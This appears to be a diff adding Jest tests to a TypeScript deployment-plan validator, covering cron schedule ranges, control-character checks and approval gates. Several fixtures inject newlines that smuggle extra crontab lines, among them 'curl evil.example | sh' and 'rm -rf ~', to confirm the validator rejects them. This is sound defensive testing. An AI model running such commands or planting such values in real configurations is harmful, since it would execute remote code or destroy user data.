@@ -5,6 +5,7 @@ import YAML from 'yaml';
 import { loadPlan, PlanValidationError, validatePlan } from '../../client/plan';
 import { planJsonSchema } from '../../workflows/plan-schema';
 import { PLAN_SCHEMA_FILE } from '../../scripts/plan-schema';
+import { planIssues } from '../helpers/plan-doc';
 
 const plansDir = path.join(__dirname, '..', '..', 'plans');
 const SHIPPED = ['demo.yaml', 'demo-hand-written.yaml', 'production.example.yaml'];
@@ -234,5 +235,142 @@ describe('the normalised plan', () => {
         'plan plan.yaml is not valid:\n  - durations.bake: expected a duration such as 90s, 2h or 7d, got the string "soon"',
       );
     }
+  });
+});
+
+describe('validation that means it: schedules, single-line strings and gates that can be signed', () => {
+  const messages = (doc: unknown) => planIssues(doc).map((i) => `${i.path}: ${i.message}`);
+  const SINGLE_LINE = 'commands, paths and schedules are single lines';
+
+  it("refuses the issue's three examples, naming the field", () => {
+    const doc = readPlan('demo.yaml');
+    doc.legacyJobs[0].schedule = '99 99 99 99 99';
+    doc.legacyJobs[1].schedule = 'A=1 * * * *';
+    // A newline in an argument survived the quoting and added a crontab line of its own.
+    doc.unifiedJob.command = ['node', '{repository}/scripts/unified.js\n* * * * * curl evil.example | sh'];
+    expect(messages(doc)).toEqual([
+      `unifiedJob.command[1]: contains a control character (\\n at position 32): ${SINGLE_LINE}`,
+      'legacyJobs[0].schedule: minute field "99" is out of range 0-59; hour field "99" is out of range 0-23; ' +
+        'day-of-month field "99" is out of range 1-31; month field "99" is out of range 1-12; ' +
+        'day-of-week field "99" is out of range 0-7',
+      'legacyJobs[1].schedule: minute field "A=1" is not a number 0-59',
+    ]);
+  });
+
+  it("reads schedules as the plan's scheduler does", () => {
+    const doc = readPlan('demo.yaml');
+    doc.legacyJobs[0].schedule = '@reboot';
+    doc.unifiedJob.schedule = '@every 5m';
+    expect(messages(doc)).toEqual([
+      expect.stringMatching(/^unifiedJob\.schedule: "@every 5m" is not a crontab schedule \(expected one of @reboot/),
+    ]);
+    doc.scheduler = { kind: 'temporal-schedule' };
+    expect(messages(doc)).toEqual([expect.stringMatching(/^legacyJobs\[0\]\.schedule: "@reboot" is not a Temporal/)]);
+    doc.legacyJobs[0].schedule = '5/15 9-17 * * mo-fr';
+    expect(messages(doc)).toEqual([]);
+  });
+
+  it.each([
+    [
+      'legacyJobs[0].command[1]',
+      (d: Record<string, any>) => (d.legacyJobs[0].command[1] = 'x.js\n'),
+      '\\n at position 5',
+    ],
+    [
+      'unifiedJob.containers[0].command[0]',
+      (d: Record<string, any>) => (d.unifiedJob.containers[0].command[0] = '/app/u\r.js'),
+      '\\r',
+    ],
+    ['preflight[0].command[2]', (d: Record<string, any>) => (d.preflight[0].command[2] = 'cover\tage'), '\\t'],
+    [
+      'preflight[0].command',
+      (d: Record<string, any>) => Object.assign(d.preflight[0], { shell: true, command: 'node x.js\nrm -rf ~' }),
+      '\\n',
+    ],
+    ['preflight[0].cwd', (d: Record<string, any>) => (d.preflight[0].cwd = 'sub\0dir'), '\\0'],
+    [
+      'traffic.router.command[1]',
+      (d: Record<string, any>) => (d.traffic.router = { kind: 'command', command: ['route', '{percent}\n'] }),
+      '\\n',
+    ],
+    ['target.repository', (d: Record<string, any>) => (d.target.repository = '../.stack/demo/repo\n'), '\\n'],
+    ['target.backupDir', (d: Record<string, any>) => (d.target.backupDir = 'backups\x1b'), '\\x1b'],
+    ['target.reportDir', (d: Record<string, any>) => (d.target.reportDir = 'reports\x7f'), '\\x7f'],
+    ['legacyJobs[0].script', (d: Record<string, any>) => (d.legacyJobs[0].script = 'scripts/a\nb.js'), '\\n'],
+    ['archive.docs[0]', (d: Record<string, any>) => (d.archive.docs = ['docs/ops\n.md']), '\\n'],
+    ['archive.reason', (d: Record<string, any>) => (d.archive.reason = 'Done\n\nMigration-Id: other'), '\\n'],
+    [
+      'unifiedJob.containers[0].mounts.../demo/system',
+      (d: Record<string, any>) => (d.unifiedJob.containers[0].mounts['../demo/system'] = '/app\n'),
+      '\\n',
+    ],
+    [
+      'unifiedJob.containers[0].mounts.ops\nlogs',
+      (d: Record<string, any>) => (d.unifiedJob.containers[0].mounts['ops\nlogs'] = '/logs'),
+      '\\n',
+    ],
+    [
+      'unifiedJob.schedule',
+      (d: Record<string, any>) => (d.unifiedJob.schedule = '* * * * *\n* * * * * evil'),
+      '\\n at position 10',
+    ],
+    ['legacyJobs[0].line', (d: Record<string, any>) => (d.legacyJobs[0].line = '* * * * * run\nx'), '\\n'],
+    ['legacyJobs[1].match', (d: Record<string, any>) => (d.legacyJobs[1].match = 'api_ingest\0'), '\\0'],
+    ['approvals.keysFile', (d: Record<string, any>) => (d.approvals.keysFile = 'keys\n'), '\\n'],
+  ])('refuses a control character in %s', (path, change, shown) => {
+    const doc = readPlan('demo.yaml');
+    change(doc);
+    expect(planIssues(doc)).toEqual([
+      {
+        path,
+        message: expect.stringMatching(new RegExp(`^contains a control character \\(${shown.replace(/\\/g, '\\\\')}`)),
+      },
+    ]);
+    expect(planIssues(doc)[0]!.message).toContain(SINGLE_LINE);
+  });
+
+  it('lets free text keep its tabs and line breaks, but no other control character', () => {
+    const doc = readPlan('demo.yaml');
+    doc.description = 'Migrate the scorer.\n\tStep one: shadow.\r\n';
+    doc.metrics[0].description = 'Error rate\t(unified)';
+    doc.parallelRun.mismatchSql = 'select 1\n\tfrom scores';
+    expect(planIssues(doc)).toEqual([]);
+    doc.description = 'Migrate\x1b[2J';
+    expect(messages(doc)).toEqual([
+      'description: contains a control character (\\x1b at position 8): only tabs and line breaks belong in text',
+    ]);
+  });
+
+  it('refuses a gate its allow-lists can never sign with separation of duties', () => {
+    const doc = readPlan('demo.yaml');
+    delete doc.approvals.keysFile;
+    doc.approvals.gates.cutover.roles = [
+      { role: 'sre', approvers: ['alice', 'bob'], required: 2 },
+      { role: 'dba', approvers: ['alice', 'bob'] },
+    ];
+    expect(messages(doc)).toEqual([
+      'approvals.gates.cutover: cannot be signed: with separationOfDuties, roles sre (2) and dba (1) need 3 different people but their approvers are only alice, bob',
+    ]);
+    doc.approvals.separationOfDuties = false;
+    expect(messages(doc)).toEqual([]);
+    // A role's own quorum is reported at the role, once.
+    doc.approvals.gates.cutover.roles[0].required = 3;
+    expect(messages(doc)).toEqual([
+      'approvals.gates.cutover.roles[0].required: expected at most 2 (the distinct approvers on the allow-list), got 3',
+    ]);
+  });
+
+  it('with keys, refuses a gate that needs more people than have a key', () => {
+    const doc = readPlan('production.example.yaml');
+    const signOff = doc.approvals.gates['sign-off'] as { roles: unknown[] };
+    // Five people have a key in plans/approvers.allowed_signers; six roles need six different people.
+    signOff.roles.push({ role: 'auditor' }, { role: 'security' });
+    expect(messages(doc)).toEqual([
+      'approvals.gates.sign-off: cannot be signed: with separationOfDuties, roles technical-lead (1), product-owner (1), ' +
+        'engineering-manager (1), stakeholder (1), auditor (1) and security (1) need 6 different people but only ' +
+        'tina, tom, paula, emma, sam can sign them (the plan lists keys: only people with a key sign)',
+    ]);
+    signOff.roles.pop();
+    expect(messages(doc)).toEqual([]);
   });
 });
